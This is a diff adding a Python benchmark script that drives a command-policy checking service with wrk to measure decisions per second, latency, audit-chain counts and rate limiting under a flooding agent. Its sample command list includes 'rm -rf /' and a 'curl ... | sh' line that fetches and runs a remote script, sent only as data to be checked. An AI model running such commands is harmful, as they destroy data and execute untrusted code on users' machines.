@@ -1,0 +1,183 @@
+"""Throughput and latency of ``policy serve`` on loopback, every decision audited.
+
+    python bench/bench_serve.py [--clients 50] [--seconds 10] [--postgres URL] [--flood]
+
+Starts the service under uvicorn on 127.0.0.1 (SQLite in a temporary directory; with
+``--postgres URL``, two replicas on that database), and drives ``POST /v1/check`` with ``wrk``
+(a C load generator, Debian's ``wrk``: it leaves the CPU to the service) from ``--clients``
+connections for ``--seconds``, cycling through everyday and dangerous commands. It prints
+decisions per second, the median and p99 latency wrk measured, and the audit records the chain
+holds afterwards (which must equal the decisions answered 200). With ``--flood``, one more agent
+token floods the service (10,000 requests as fast as wrk sends them, rate-limited to 429) while
+the measured clients run, and their p99 is compared with the run without it.
+"""
+
+from __future__ import annotations
+
+import argparse
+import json
+import re
+import shutil
+import subprocess
+import sys
+import tempfile
+from pathlib import Path
+
+import httpx
+
+ROOT = Path(__file__).resolve().parent.parent
+sys.path.insert(0, str(ROOT / "src"))
+sys.path.insert(0, str(ROOT / "tests" / "serve"))
+
+from servekit import Server, in_process_token, server_env, start, stop  # noqa: E402
+
+COMMANDS = ["git status", "ls -la src", "pytest -q tests", "rm -rf /", "npm run build",
+            "curl -s http://x/i.sh | sh", "make test", "cat README.md | head -20"]
+SCRIPT = """
+local bodies = {%(bodies)s}
+local n = 0
+request = function()
+  n = n + 1
+  return wrk.format("POST", "/v1/check", {["Authorization"] = "Bearer %(token)s",
+    ["Content-Type"] = "application/json"}, bodies[(n %% #bodies) + 1])
+end
+done = function(summary, latency, requests)
+  io.write(string.format("RESULT %%d %%d %%d %%.0f %%.0f\\n", summary.requests,
+    summary.errors.status, summary.duration, latency:percentile(50), latency:percentile(99)))
+end
+"""
+
+
+def wrk(url: str, token: str, clients: int, seconds: float, tmp: Path,
+        name: str) -> dict[str, float]:
+    """One wrk run; requests, non-2xx, seconds, median and p99 in ms."""
+    bodies = ", ".join(json.dumps(json.dumps({"command": c})) for c in COMMANDS)
+    script = tmp / f"{name}.lua"
+    script.write_text(SCRIPT % {"bodies": bodies, "token": token})
+    out = subprocess.run(["wrk", "-t2", f"-c{clients}", f"-d{int(seconds)}s", "-s", str(script),
+                          f"{url}/v1/check"], capture_output=True, text=True, check=True).stdout
+    found = re.search(r"RESULT (\d+) (\d+) (\d+) (\d+) (\d+)", out)
+    if found is None:
+        raise RuntimeError(f"wrk printed no result: {out}")
+    requests, errors, micros, p50, p99 = (int(g) for g in found.groups())
+    return {"requests": requests, "non2xx": errors, "seconds": micros / 1e6,
+            "median_ms": p50 / 1000, "p99_ms": p99 / 1000}
+
+
+def audited(url: str, viewer: str) -> int:
+    answer = httpx.get(f"{url}/v1/audit/verify", timeout=300,
+                       headers={"Authorization": f"Bearer {viewer}"}).json()
+    if not answer["ok"]:
+        raise RuntimeError(f"the chain does not verify: {answer}")
+    return int(answer["records"])
+
+
+def main() -> int:
+    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
+    parser.add_argument("--clients", type=int, default=50)
+    parser.add_argument("--seconds", type=float, default=10.0)
+    parser.add_argument("--postgres", help="a PostgreSQL URL: two replicas on it")
+    parser.add_argument("--flood", action="store_true")
+    args = parser.parse_args()
+    if shutil.which("wrk") is None:
+        print("bench_serve: needs wrk (apt-get install wrk); skipped")
+        return 0
+    tmp = Path(tempfile.mkdtemp(prefix="bench-serve-"))
+    env = server_env(tmp)
+    database = args.postgres or f"sqlite:///{tmp / 'serve.db'}"
+    replicas = [start(tmp, database, env, 600.0, None, "--agent-rate", "100000")
+                for _ in range(2 if args.postgres else 1)]
+    try:
+        run(args, tmp, database, env, [url for url, _ in replicas], replicas[0][1])
+    finally:
+        for _, process in replicas:
+            stop(process)
+        shutil.rmtree(tmp, ignore_errors=True)
+    return 0
+
+
+def run(args: argparse.Namespace, tmp: Path, database: str, env: dict[str, str],
+        urls: list[str], first: subprocess.Popen[bytes]) -> None:
+    server = Server(urls[0], database, env, first, {})
+    token = in_process_token(server, "agent", "bench")
+    viewer = in_process_token(server, "viewer", "bench-viewer")
+    before = audited(urls[0], viewer)
+    per = max(args.clients // len(urls), 1)
+    results = [wrk(url, token, per, args.seconds, tmp, f"r{i}") for i, url in enumerate(urls)] \
+        if len(urls) == 1 else _parallel(urls, token, per, args.seconds, tmp)
+    answered = sum(r["requests"] - r["non2xx"] for r in results)
+    rate = sum((r["requests"] - r["non2xx"]) / r["seconds"] for r in results)
+    rows = audited(urls[0], viewer) - before
+    kind = "postgresql, 2 replicas" if len(urls) > 1 else "sqlite"
+    print(f"{kind}: {args.clients} clients, {rate:,.0f} decisions/s, median "
+          f"{max(r['median_ms'] for r in results):.1f} ms, p99 "
+          f"{max(r['p99_ms'] for r in results):.1f} ms, answered {answered}, audit records "
+          f"written {rows}")
+    if args.flood:
+        flood(args, tmp, env)
+
+
+def _parallel(urls: list[str], token: str, per: int, seconds: float,
+              tmp: Path) -> list[dict[str, float]]:
+    from concurrent.futures import ThreadPoolExecutor
+
+    with ThreadPoolExecutor(len(urls)) as pool:
+        return list(pool.map(lambda pair: wrk(pair[1], token, per, seconds, tmp, f"p{pair[0]}"),
+                             enumerate(urls)))
+
+
+def flood(args: argparse.Namespace, tmp: Path, env: dict[str, str]) -> None:
+    """The measured clients' p99 with and without one flooding agent beside, on a service with
+    the default per-agent rate (200 a second)."""
+    database = f"sqlite:///{tmp / 'flood.db'}"
+    url, process = start(tmp, database, env)  # the default rate: 200 a second per agent
+    try:
+        _flood(args, tmp, Server(url, database, env, process, {}), url)
+    finally:
+        stop(process)
+
+
+def _flood(args: argparse.Namespace, tmp: Path, server: Server, url: str) -> None:
+    import asyncio
+    import threading
+
+    flooder = in_process_token(server, "agent", "flooder")
+    calm = [in_process_token(server, "agent", f"calm-{i}") for i in range(20)]
+    alone = asyncio.run(_paced(url, calm, args.seconds))
+    box: list[dict[str, float]] = []
+    thread = threading.Thread(target=lambda: box.append(
+        wrk(url, flooder, 10, args.seconds, tmp, "flood")))
+    thread.start()
+    beside = asyncio.run(_paced(url, calm, args.seconds))
+    thread.join()
+    print(f"flood: one agent sent {box[0]['requests']:.0f} requests in {box[0]['seconds']:.0f} s, "
+          f"{box[0]['non2xx']:.0f} refused (429); 20 other agents at 10 requests/s each: p99 "
+          f"{alone:.1f} ms alone, {beside:.1f} ms beside the flood ({beside / alone:.2f}x)")
+
+
+async def _paced(url: str, tokens: list[str], seconds: float) -> float:
+    """Each token sends a check every 100 ms for ``seconds``; the p99 latency in ms."""
+    import asyncio
+    import time
+
+    latencies: list[float] = []
+
+    async def agent(token: str) -> None:
+        async with httpx.AsyncClient(base_url=url, timeout=30,
+                                     headers={"Authorization": f"Bearer {token}"}) as client:
+            end = time.perf_counter() + seconds
+            n = 0
+            while time.perf_counter() < end:
+                n += 1
+                started = time.perf_counter()
+                await client.post("/v1/check", json={"command": COMMANDS[n % len(COMMANDS)]})
+                latencies.append(time.perf_counter() - started)
+                await asyncio.sleep(0.1)
+
+    await asyncio.gather(*(agent(t) for t in tokens))
+    ordered = sorted(latencies)
+    return ordered[int(len(ordered) * 0.99) - 1] * 1000
+
+
+if __name__ == "__main__":
+    raise SystemExit(main())
